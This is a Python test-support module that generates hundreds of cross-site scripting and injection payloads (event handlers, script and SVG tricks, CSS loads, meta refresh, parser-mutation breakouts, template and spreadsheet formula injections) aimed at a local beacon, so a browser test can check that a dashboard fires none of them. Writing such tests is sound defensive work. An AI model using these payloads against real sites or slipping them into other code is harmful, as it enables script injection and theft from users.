"""Strings that try to run a script or to send a request out, by known technique, and replies that carry them.

In every string `{js}` stands for a script that tells a beacon that it ran, and `{url}` for an address of the beacon whose
mere request is a success of the attack. A browser test serves `replies(beacon)` from a service, shows each with the
dashboard, and finds that the beacon was asked for nothing:

    for reply in attacks.replies("http://127.0.0.1:8123"):
        ...  # serve reply.body with reply.headers at reply.path, fetch it, wait a moment
    assert beacon.asked == []   # each would name the attack: /ran/<number> or /asked/<number>
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

_HANDLERS = (
    ("img src=x", "onerror"), ("img src=data:,x", "onerror"), ("image src=x", "onerror"), ("svg", "onload"), ("body", "onload"),
    ("body", "onpageshow"), ("body onhashchange", "onresize"), ("iframe", "onload"), ("iframe srcdoc=x", "onload"),
    ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"), ("div tabindex=0 autofocus", "onfocus"), ("div contenteditable autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("video><source", "onerror"), ("audio src=x", "onerror"),
    ("object data=x", "onerror"), ("embed src=x", "onerror"), ("script src=x", "onerror"), ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"), ("marquee", "onstart"), ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><animate attributeName=x dur=1s", "onend"), ("svg><set attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"), ("svg><use href=x", "onload"), ("math><mi xlink:href=x", "onfocus"),
    ("p style=animation-name:x", "onanimationstart"), ("div style=transition:all", "ontransitionend"),
    ("dialog open", "onclose"), ("input type=image src=x", "onerror"), ("track src=x", "onerror"), ("frameset", "onload"),
    ("form", "onsubmit"), ("keygen autofocus", "onfocus"), ("isindex autofocus", "onfocus"), ("a autofocus href=x", "onfocus"),
    ("div", "onwheel"), ("div popover", "onbeforetoggle"), ("div", "onscrollend"), ("div", "onpointerrawupdate"),
)  # fmt: skip

_SCRIPTS = (
    "<script>{js}</script>", "<SCRIPT>{js}</SCRIPT>", "<script >{js}</script >", "<script/x>{js}</script>",
    "<script src={url}></script>", "<script src=//{url}></script>", "<script type=module>{js}</script>",
    "<script type=module src={url}></script>", "<script>{js}", "<scr<script>ipt>{js}</script>", "<<script>{js}//<</script>",
    "<script\x00>{js}</script>", "<script\x0b>{js}</script>", "<svg><script>{js}</script></svg>",
    "<svg><script href={url} /></svg>", "<svg><script xlink:href={url}></script></svg>", "<math><script>{js}</script></math>",
    "<script>/*<!--*/{js}//--></script>", "<template><script>{js}</script></template>", "<noscript><script>{js}</script>",
)  # fmt: skip

_SVG = (
    "<svg><foreignObject><body onload={js}></body></foreignObject></svg>",
    "<svg><foreignObject><iframe src={url}></iframe></foreignObject></svg>",
    '<svg><a xlink:href="javascript:{js}"><text y=9>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:{js}"/><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{js}</script></svg>#x"/></svg>',
    "<svg><use href={url}#x></use></svg>", "<svg><image href={url} /></svg>", "<svg><image xlink:href={url} /></svg>",
    "<svg><feImage href={url} /></svg>", "<svg><style>@import '{url}';</style></svg>",
    "<svg><style>*{{fill:url({url})}}</style><rect width=9 height=9 /></svg>",
    "<svg><filter id=f><feImage href={url} /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><pattern id=p><image href={url} /></pattern><rect fill=url(#p) width=9 height=9 /></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{js}</handler></svg>",
    "<svg><set attributeName=onload to={js} /></svg>", "<svg><discard onbegin={js} /></svg>",
    '<?xml-stylesheet href="{url}" type="text/css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<?xml-stylesheet href="{url}" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "{url}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script><image href="{url}"/></svg>',
)  # fmt: skip

_CSS = (
    "<style>@import '{url}';</style>", "<style>@import url({url});</style>", "<style>body{{background:url({url})}}</style>",
    "<style>*{{list-style:url({url});display:list-item}}</style>", "<style>*{{cursor:url({url}),auto}}</style>",
    "<style>*::before{{content:url({url})}}</style>", "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
    "<style>*{{border-image:url({url}) 1}}</style>", "<style>*{{mask:url({url})}}</style>", "<style>*{{filter:url({url}#x)}}</style>",
    "<style>*{{shape-outside:url({url});float:left}}</style>", "<style>*{{background:image-set('{url}' 1x)}}</style>",
    "<style>*{{background:cross-fade(url({url}),red)}}</style>", "<style>*{{-moz-binding:url({url}#x)}}</style>",
    "<style>*{{behavior:url({url})}}</style>", "<style>*{{width:expression({js})}}</style>",
    "<style>@namespace url({url});</style>", "<style>@document url({url}){{*{{color:red}}}}</style>",
    "<p style=background:url({url})>x</p>", '<p style="background:\\75rl({url})">x</p>', "<link rel=stylesheet href={url}>",
    "<style></style><img src=x onerror={js}>", "<style><img src=</style><img src=x onerror={js}>'",
)  # fmt: skip

_LOADS = (
    "<img src={url}>", "<img srcset='{url} 1x'>", "<picture><source srcset={url}><img></picture>", "<video src={url}></video>",
    "<video poster={url}></video>", "<audio src={url} preload=auto></audio>", "<video><track default src={url}></video>",
    "<embed src={url}>", "<object data={url}></object>", "<input type=image src={url}>", "<iframe src={url}></iframe>",
    "<frameset><frame src={url}></frameset>", "<link rel=icon href={url}>", "<link rel=preload as=image href={url}>",
    "<link rel=prefetch href={url}>", "<link rel=prerender href={url}>", "<link rel=dns-prefetch href={url}>",
    "<link rel=preconnect href={url}>", "<link rel=modulepreload href={url}>", "<link rel=manifest href={url}>",
    "<link rel=import href={url}>", "<body background={url}>", "<table background={url}><td background={url}>x</table>",
    "<base href={url}><img src=x>", "<bgsound src={url}>", "<applet archive={url}></applet>", "<portal src={url}></portal>",
    "<fencedframe src={url}></fencedframe>", "<image src={url}>", "<a ping={url} href=#>x</a>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{url}"]}}]}}</script>',
)  # fmt: skip

_FRAMES = (
    '<iframe srcdoc="<script>{js}</script>"></iframe>', '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    '<iframe sandbox="allow-scripts" srcdoc="<script>{js}</script>"></iframe>',
    '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<img src=x onerror={js}>"></iframe>',
    '<iframe src="javascript:{js}"></iframe>', '<iframe src="data:text/html,<script>{js}</script>"></iframe>',
    '<iframe srcdoc="<iframe srcdoc=&quot;<script>{js}</script>&quot;></iframe>"></iframe>',
    '<object data="data:text/html,<script>{js}</script>"></object>', '<embed src="data:text/html,<script>{js}</script>">',
    '<object data="javascript:{js}"></object>', '<iframe csp="script-src *" srcdoc="<script>{js}</script>"></iframe>',
)  # fmt: skip

_MOVES = (
    '<meta http-equiv=refresh content="0;url={url}">', '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{js}</script>">', '<meta http-equiv=refresh content="0, {url}">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\"><script>{js}</script>",
    "<meta http-equiv=set-cookie content=a=b><img src={url}>", "<meta http-equiv=Link content='<{url}>;rel=stylesheet'>",
    "<form action={url}><input autofocus><script>document.forms[0].submit()</script></form>",
    "<form action=javascript:{js}><input type=submit autofocus></form>", "<form><button formaction=javascript:{js} autofocus>x</form>",
    "<form id=f action={url}></form><button form=f autofocus>x</button>", "<isindex action=javascript:{js} type=image>",
    "<a href=javascript:{js} autofocus>x</a>", "<a href='java&#10;script:{js}'>x</a>", "<a href='java&Tab;script:{js}'>x</a>",
    "<a href='&#106;avascript:{js}'>x</a>", "<a href=' javascript:{js}'>x</a>", "<a href='\x01javascript:{js}'>x</a>",
    "<a href=JaVaScRiPt:{js}>x</a>", "<a href=vbscript:{js}>x</a>", "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<area shape=default href=javascript:{js}>", "<math href=javascript:{js}>x</math>", "<base href=javascript:{js}//><a href=#>x</a>",
)  # fmt: skip

_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={js}>">', "<!--><img src=x onerror={js}>-->", "<!--!><img src=x onerror={js}>",
    "<!-- --!><img src=x onerror={js}>", "<!- -><img src=x onerror={js}>", "<![CDATA[<img src=x onerror={js}>]]>",
    "<svg><![CDATA[</svg><img src=x onerror={js}>]]>", '<svg></p><style><a id="</style><img src=x onerror={js}>">',
    "<math><mtext><table><mglyph><style><math><img src=x onerror={js}></style>", "<math><mi><mglyph><style><img src=x onerror={js}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>", "<svg><title><style><img src=x onerror={js}>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror={js}>", "<title><img title='</title><img src=x onerror={js}>'>",
    "<textarea><img title='</textarea><img src=x onerror={js}>'>", "<xmp><img title='</xmp><img src=x onerror={js}>'>",
    "<noembed><img title='</noembed><img src=x onerror={js}>'>", "<noframes><img title='</noframes><img src=x onerror={js}>'>",
    "<iframe><img title='</iframe><img src=x onerror={js}>'>", "<plaintext><img src=x onerror={js}>", "<table><img src=x onerror={js}></table>",
    "<select><img src=x onerror={js}></select>", "<template><img src=x onerror={js}></template>", "<p><svg><p><img src=x onerror={js}>",
    "<div><template shadowrootmode=open><img src=x onerror={js}></template></div>", "<img src=x onerror={js}", "<img src=x onerror={js} //",
    "<img/src=x/onerror={js}>", "<img\tsrc=x\tonerror={js}>", "<img\nsrc=x\nonerror={js}>", "<img\x0csrc=x\x0conerror={js}>",
    "<img src=x onerror=\x00{js}>", '<img src="x" onerror=`{js}`>', "<IMG SRC=x OnErRoR={js}>", "<img src=x onerror&#61;{js}>",
    "<a><b><i><img src=x onerror={js}></a></b></i>", "</div></div></div><img src=x onerror={js}>", "<x onclick={js} autofocus tabindex=1>",
)  # fmt: skip

_BREAKOUTS = (
    '"><img src=x onerror={js}>', "'><img src=x onerror={js}>", "`><img src=x onerror={js}>", '" onfocus={js} autofocus x="',
    "' onfocus={js} autofocus x='", "</pre><img src=x onerror={js}>", "</td></table><img src=x onerror={js}>",
    "</summary></details><img src=x onerror={js}>", "</label><img src=x onerror={js}>", "</title><img src=x onerror={js}>",
    "</style><img src=x onerror={js}>", "</iframe><img src=x onerror={js}>", "</textarea><img src=x onerror={js}>",
    '"></iframe><img src=x onerror={js}>', "&quot;&gt;&lt;img src=x onerror={js}&gt;", "&lt;img src=x onerror={js}&gt;",
    "&amp;lt;img src=x onerror={js}&amp;gt;", "&#60;img src=x onerror={js}&#62;", "\\u003cimg src=x onerror={js}\\u003e",
    "\\x3cimg src=x onerror={js}\\x3e", "%3Cimg src=x onerror={js}%3E", "+ADw-img src=x onerror={js}+AD4-",
    "\u2028<img src=x onerror={js}>", "\u202e>{js}=rorreno x=crs gmi<", "\x1b]8;;javascript:{js}\x07x\x1b]8;;\x07",
    "\ufeff<img src=x onerror={js}>", "\x00<img src=x onerror={js}>", "\ud83d<img src=x onerror={js}>", "\uff1cimg src=x onerror={js}\uff1e",
    "$\\href{{javascript:{js}}}{{x}}$", "$$\\unicode{{<img src=x onerror={js}>}}$$", "\\(\\style{{background:url({url})}}{{x}}\\)",
    "[x](javascript:{js})", "![x]({url})", "[x]: javascript:{js}", "<javascript:{js}>", "```html\n<img src=x onerror={js}>\n```",
    "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "#{{{js}}}", "<%= {js} %>", '=HYPERLINK("{url}")', "=cmd|'{js}'!A0",
    "\r\nContent-Type: text/html\r\n\r\n<img src=x onerror={js}>", "../../<img src=x onerror={js}>", 'file.png" onerror="{js}',
)  # fmt: skip

STRINGS: tuple[str, ...] = (
    *(f"<{start} {event}={{js}}>" for start, event in _HANDLERS),
    *_SCRIPTS, *_SVG, *_CSS, *_LOADS, *_FRAMES, *_MOVES, *_MUTATIONS, *_BREAKOUTS,
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """A reply that carries attacks."""

    path: str
    media_type: str
    body: bytes
    description: str = ""

    @property
    def headers(self) -> tuple[tuple[str, str], ...]:
        """As a service would send them; what cannot stand in a header is left out."""
        line = "".join(char for char in self.description if char not in "\r\n\0")
        sent = line.encode("utf-8", "replace").decode("latin-1")
        return (("Content-Type", self.media_type), ("X-Description", sent), ("X-Note", sent))


def armed(beacon: str) -> list[str]:
    """Return every string with its script and address filled in; the number in both is its place in the list."""
    return [
        text.format(js=f"new/**/Image().src='{beacon}/ran/{number}'", url=f"{beacon}/asked/{number}")
        for number, text in enumerate(STRINGS)
    ]


def replies(beacon: str) -> Iterator[Hostile]:
    """Yield every string as a page, as a drawing and as text, and all of them inside every structure."""
    texts = armed(beacon)
    for number, text in enumerate(texts):
        body = text.encode("utf-8", "replace")
        path = f"/{number}/{quote(text, safe='', errors='replace')[:300]}"
        yield Hostile(path, "text/html", b"<!doctype html>" + body, text)
        if text.startswith(("<svg", "<?xml", "<!DOCTYPE svg")):
            yield Hostile(
                f"/svg{path}", "image/svg+xml", body.replace(b"<svg>", b'<svg xmlns="http://www.w3.org/2000/svg">')
            )
    whole = "\n".join(texts)
    yield Hostile("/plain", "text/plain", whole.encode("utf-8", "replace"))
    yield Hostile("/markdown", "text/markdown", whole.encode("utf-8", "replace"))
    yield Hostile("/untyped", "", whole.encode("utf-8", "replace"))
    yield Hostile("/unknown", "application/x-<img src=x onerror=x>", whole.encode("utf-8", "replace"))
    yield Hostile(
        "/json", "application/json", json.dumps({text: {"value": text, "list": [text]} for text in texts}).encode()
    )
    yield Hostile("/csv", "text/csv", _table(texts).encode("utf-8", "replace"))


def _table(texts: list[str]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(texts[:40])
    for text in texts:
        writer.writerow([text] * 3)
    return out.getvalue().replace("\0", "")
